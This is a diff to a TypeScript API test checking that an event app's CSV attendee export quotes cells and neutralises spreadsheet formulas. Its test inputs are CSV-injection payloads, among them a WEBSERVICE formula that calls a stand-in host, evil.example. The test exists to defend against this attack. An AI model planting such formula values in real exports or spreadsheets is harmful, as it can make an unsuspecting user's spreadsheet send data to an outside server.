@@ -5,6 +5,7 @@ import { Client } from '../support/client'
 import { attendee, createEvent, createHost, signIn, signInMaster } from '../support/actors'
 import { ADMIN, startTestServer, type TestServer } from '../support/testServer'
 import { csvCell } from '../../contract/csv'
+import { insertEarlierRow } from '../support/bulk'
 
 /**
  * Text an outsider controls, and sign-in as a stranger sees it (issue 27): feed names only
@@ -62,11 +63,10 @@ describe('event text in public answers', () => {
 
   it('CSV cells are quoted and formulas neutralised after any separator (finding 14)', async () => {
     const event = await createEvent(master)
-    for (const [name, company] of [
-      ['Ann;=1+1', 'Acme;=WEBSERVICE("http://evil.example")'],
-      ['Tab\t@SUM(A1)', 'Comma,+1'],
-    ])
-      expect((await master.post(`/api/events/${event.id}/attendees`, attendee({ name, company }))).status).toBe(201)
+    const ann = attendee({ name: 'Ann;=1+1', company: 'Acme;=WEBSERVICE("http://evil.example")' })
+    expect((await master.post(`/api/events/${event.id}/attendees`, ann)).status).toBe(201)
+    // Names are one line now (issue 44): a TAB can only be in a row stored before, written here as such.
+    await insertEarlierRow(server, event.id, { name: 'Tab\t@SUM(A1)', email: 'tab.row@example.com', company: 'Comma,+1' })
     const csv = await master.get(`/api/events/${event.id}/attendees/download`)
     expect(csv.text).toContain(`"Ann;'=1+1",`)
     expect(csv.text).toContain(`"Acme;'=WEBSERVICE(""http://evil.example"")"`)
